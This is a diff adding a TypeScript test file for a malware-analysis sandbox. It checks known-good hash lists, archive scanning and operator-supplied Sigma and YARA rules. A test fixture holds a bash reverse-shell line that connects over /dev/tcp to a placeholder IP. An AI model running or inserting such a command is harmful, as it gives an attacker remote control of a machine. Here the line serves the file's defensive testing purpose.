@@ -1,0 +1,87 @@
+import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { analyse, type ResultBody } from '../sandbox-runner/analyse.ts';
+import { loadEngine, loadRules, type Own } from '../sandbox-runner/engine.ts';
+import { readKnownGood } from '../sandbox-runner/known-good.ts';
+import { FakeMachines } from '../sandbox-runner/machines/fake-machines.ts';
+import { yaraRules } from '../sandbox-runner/static/yara-rule.ts';
+import { score } from '../subgraphs/verdicts/scoring.ts';
+import { hashOf, quietGuest } from './assay.ts';
+import { sevenZip } from './samples/seven.ts';
+
+let folder: string;
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'assay-operator-'));
+});
+afterAll(async () => await rm(folder, { recursive: true, force: true }));
+const file = async (name: string, text: string) => {
+  await writeFile(join(folder, name), text);
+  return join(folder, name);
+};
+const analysed = async (own: Own, name: string, bytes: Buffer) => {
+  const engine = await loadEngine(own);
+  try {
+    let finished: Extract<ResultBody, { kind: 'finished' }> | undefined;
+    await analyse(engine, new FakeMachines(['linux'], quietGuest), { fileName: name, runMsMax: 1_000, environment: null }, bytes, (result) => {
+      if (result.kind === 'finished') finished = result;
+      return Promise.resolve();
+    });
+    return { finished: finished!, verdict: score({ ...finished!, inert: false }) };
+  } finally {
+    await engine.yara.close();
+  }
+};
+
+describe('files that somebody vouches for', () => {
+  const bytes = Buffer.from('#!/bin/sh\n# EICAR-like marker\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n');
+  test('are clean without being run, and the verdict says who vouches', async () => {
+    const { finished, verdict } = await analysed({ knownGood: await file('good.txt', `# ours\n${hashOf(bytes)} Debian bash 5.2\n`) }, 'a.sh', bytes);
+    expect(finished.detonations).toEqual([]);
+    expect(verdict).toMatchObject({ level: 'CLEAN', reason: 'KNOWN_GOOD', score: 0, summary: expect.stringContaining('Debian bash 5.2') as string });
+    expect((await analysed({}, 'a.sh', bytes)).verdict.reason).not.toBe('KNOWN_GOOD');
+  });
+  test('say nothing against an archive that holds them', async () => {
+    const zip = await sevenZip('holds.zip', ['-tzip'], { 'a.sh': bytes });
+    const list = await file('good.txt', `${hashOf(bytes)} Debian bash 5.2\n`);
+    const [without, within] = [(await analysed({}, 'holds.zip', zip)).finished, (await analysed({ knownGood: list }, 'holds.zip', zip)).finished];
+    expect(without.detonations[0]).toMatchObject({ member: 'a.sh' });
+    expect(within.detonations.map((one) => one.member)).not.toContain('a.sh');
+    expect(within.signals.filter((one) => one.source === 'MEMBER' || one.source === 'TEXT')).toEqual([]);
+  });
+  test('come from a list that is read whole or not at all', async () => {
+    await expect(readKnownGood(await file('bad.txt', `${'a'.repeat(64)} x\nnonsense\n`))).rejects.toThrow(/line 2: not a SHA-256/);
+    await expect(readKnownGood(join(folder, 'absent.txt'))).rejects.toThrow(/can not be read/);
+  });
+});
+
+describe("an operator's own rules", () => {
+  const rule = (id: string) => `title: Ours\nid: ${id}\nlogsource: { category: process_creation, product: linux }\ndetection: { s: { CommandLine|contains: frobnicate }, condition: s }\nlevel: high\n`;
+  test('join ours, and make another engine release', async () => {
+    const rules = await mkdtemp(join(folder, 'rules-'));
+    await writeFile(join(rules, 'one.yml'), rule('99999999-0000-4000-8000-000000000001'));
+    await writeFile(join(rules, 'two.yar'), 'rule Operator_marker { meta: title = "Marker" weight = 95 condition: filesize < 1MB and uint8(0) == 0x23 }');
+    const [ours, own] = [await loadRules(), await loadRules({ rules })];
+    expect(own.sigma.length).toBe(ours.sigma.length + 1);
+    expect(own.release.digest).not.toBe(ours.release.digest);
+    expect(own.composition.matching).toBe(ours.composition.matching);
+    expect(own.yara.get('yara-Operator_marker')).toMatchObject({ weight: 95, title: 'Marker' });
+    const { verdict } = await analysed({ rules }, 'a.sh', Buffer.from('#!/bin/sh\necho x\n'));
+    expect(verdict).toMatchObject({ level: 'MALICIOUS', reason: 'SIGNATURE', decisiveSignals: [{ rule: 'yara-Operator_marker' }] });
+  });
+  test.each([
+    ['a rule that does not compile', 'x.yml', 'title: T\nid: 1\nlogsource: {}\ndetection: { condition: absent }\n', /rules must compile/],
+    ['an id that is taken', 'x.yml', null, /is taken by another rule; give yours an id of its own/],
+  ])('stop the start with the reason: %s', async (_what, name, text, message) => {
+    const rules = await mkdtemp(join(folder, 'rules-'));
+    await writeFile(join(rules, name), text ?? rule((await loadRules()).sigma[0]!.id));
+    await expect(loadRules({ rules })).rejects.toThrow(message);
+  });
+  test('in a folder that is not there stop the start', async () => await expect(loadRules({ rules: join(folder, 'absent') })).rejects.toThrow(/ASSAY_RULES names .*absent/));
+  test('of YARA tell weight and stories as the scanner reads them', () => {
+    expect(yaraRules('/* x */ rule A : tag { meta: title = "T \\"q\\"" weight = 7 techniques = "T1059, T1027" benign = "b" strings: $a = "x" condition: $a }\nprivate rule B { condition: true }')).toMatchObject([
+      { id: 'yara-A', title: 'T "q"', weight: 7, techniques: ['T1059', 'T1027'], benign: 'b' }, { id: 'yara-B', weight: 20 },
+    ]);
+  });
+});
